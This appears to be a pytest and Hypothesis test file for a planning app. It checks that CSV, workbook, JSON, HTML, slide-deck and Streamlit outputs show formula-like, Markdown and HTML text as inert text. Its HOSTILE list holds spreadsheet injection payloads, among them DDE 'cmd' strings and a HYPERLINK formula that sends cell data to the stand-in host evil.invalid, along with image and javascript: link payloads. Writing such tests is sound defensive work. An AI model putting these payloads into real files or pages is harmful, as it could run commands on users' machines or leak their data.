"""Outputs that cannot act: no formula from the plan in a CSV or workbook, no image or link from it on a page.

Hypothesis writes names and texts that look like formulas, Markdown and HTML
into a plan, and every export must carry them as text: CSV and workbook cells
never start a formula, JSON gives them back as written, the HTML pack escapes
them, and the loader reads the plan back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Element

from planner.plan import loader
from planner.presentation import export, flat_tables, report
from planner.presentation.markdown import inert
from tests.conftest import minimal_copy

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "=1+1",
    "![b](http://evil.invalid/x.png)",
    "[klik](javascript:alert(1))",
    "<img src=http://evil.invalid/y.png>",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and flat_tables.inert_cell(cell) != cell


def yaml_text(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a valid YAML scalar


def plan_with(folder: Path, name: str, note: str) -> loader.Plan:
    alpha = folder / "programmes" / "alpha.yaml"
    text = alpha.read_text(encoding="utf-8")
    text = text.replace('name: "Alpha"', f"name: {yaml_text(name)}", 1)
    text = text.replace('summary: "A programme with every kind of record."', f"summary: {yaml_text(note)}", 1)
    text = text.replace('name: "Development"', f"name: {yaml_text(note)}", 1)
    alpha.write_text(text, encoding="utf-8")
    return loader.load(str(folder))


@pytest.mark.parametrize("value", HOSTILE)
def test_the_csv_cell_of_a_formula_like_name_is_text(value: str) -> None:
    assert not is_formula(str(flat_tables.inert_cell(value)))
    assert flat_tables.inert_cell(value) in (value, "'" + value)  # the text kept, only a quote put before it


@pytest.mark.parametrize("value", ["-12", "-1,5", "+3", "-", "2022-11-03", "Udvikling"])
def test_numbers_dates_and_words_stay_as_they_are(value: str) -> None:
    assert flat_tables.inert_cell(value) == value


names = (
    st.one_of(
        st.sampled_from(HOSTILE),
        st.builds(
            lambda start, rest: start + rest,
            st.sampled_from(["=", "+", "-", "@", "![", "[", "<", ""]),
            st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=40),
        ),
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=names, note=names)
def test_every_export_carries_hostile_text_as_text(
    tmp_path_factory: pytest.TempPathFactory, name: str, note: str
) -> None:
    folder = minimal_copy(tmp_path_factory.mktemp("fuzz") / "data")
    plan = plan_with(folder, name, note)
    name = unicodedata.normalize("NFC", name)  # the loader reads text as NFC (a name typed on a Mac matches)
    alpha = plan.programme("alpha")
    assert alpha is not None and alpha.name == name  # the loader reads it back as written
    for table in flat_tables.TABLES:
        for row in csv.reader(io.StringIO(flat_tables.to_csv(flat_tables.table(plan, table)))):
            assert not any(is_formula(cell) for cell in row), row
    assert json.loads(export.to_json(plan))["programmes"][0]["name"] == name
    book = load_workbook(io.BytesIO(report.build(plan, "xlsx", "da")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == name for c in cells)  # as text, whole
    page = report.build(plan, "html", "da").decode("utf-8")
    sources = re.findall(
        r"""<(?:img|script|link|iframe)[^>]*?(?:src|href)\s*=\s*["']?([^"' >]+)""", page, re.IGNORECASE
    )
    assert all(src.startswith(("data:", "#")) for src in sources), sources  # nothing the browser fetches
    shutil.rmtree(folder.parent)


def test_inert_markdown_keeps_the_words_and_drops_every_link_and_image() -> None:
    assert inert("![b](http://evil.invalid/x)") == "!\\[b\\](http://evil.invalid/x)"
    assert inert("<img src=x>") == "\\<img src=x>"
    assert inert("**Fed** og 1. dec. 2025") == "**Fed** og 1. dec. 2025"


def test_a_summary_with_an_image_is_shown_as_text_on_the_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "data"
    shutil.copytree(ROOT / "data", folder)
    fhir = folder / "programmes" / "fhir-km.yaml"
    text = fhir.read_text(encoding="utf-8").replace(
        "summary: >-\n", "summary: >-\n  ![b](http://evil.invalid/x.png) [klik](http://evil.invalid/y)\n", 1
    )
    fhir.write_text(text, encoding="utf-8")
    monkeypatch.setenv("PLANNER_DATA", str(folder))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("views/programme.py").run()
    shown = [
        e.value
        for kind in ("markdown", "caption", "info", "warning", "error")
        for e in at.get(kind)
        if isinstance(e, Element)
    ]
    assert any("evil.invalid/x.png" in s for s in shown)
    assert not any("![b](" in s or "[klik](" in s for s in shown)  # every bracket escaped: text, not an image


def test_the_deck_carries_hostile_names_as_text_and_links_to_nothing(tmp_path: Path) -> None:
    import zipfile

    folder = minimal_copy(tmp_path / "data")
    name, note = HOSTILE[0], HOSTILE[5]
    plan = plan_with(folder, name, note)
    deck = zipfile.ZipFile(io.BytesIO(report.build(plan, "pptx", "da")))
    parts = {n: deck.read(n).decode("utf-8", "replace") for n in deck.namelist() if n.endswith((".xml", ".rels"))}
    assert not [n for n, text in parts.items() if 'TargetMode="External"' in text]  # nothing fetched or opened
    slides = "".join(text for n, text in parts.items() if n.startswith("ppt/slides/slide"))
    assert '=HYPERLINK("http://evil.invalid/?"&amp;A1,"klik")' in slides  # the name, as text (XML-escaped)


RENDERS_MARKDOWN = {
    "caption",
    "markdown",
    "info",
    "warning",
    "error",
    "success",
    "subheader",
    "header",
    "title",
    "metric",
}


def test_every_text_a_page_renders_as_markdown_goes_through_inert() -> None:
    """A new st.caption(...) with data in it must not bring images and links back: every such call says inert()."""
    import ast

    missing = []
    for path in [*sorted((ROOT / "views").glob("*.py")), *sorted((ROOT / "ui").glob("*.py")), ROOT / "app.py"]:
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            owner = ast.get_source_segment(source, node.func.value) or ""
            if node.func.attr not in RENDERS_MARKDOWN or owner in ("draw", "projector") or "log" in owner:
                continue
            if any(k.arg == "unsafe_allow_html" for k in node.keywords):  # our own CSS and HTML-escaped titles
                continue
            texts = [*node.args[:1], *(k.value for k in node.keywords if k.arg == "help")]
            for text in texts:
                segment = ast.get_source_segment(source, text) or ""
                if "inert(" not in segment and segment != "None":
                    missing.append(f"{path.name}:{node.lineno}: {segment[:60]}")
    assert missing == []
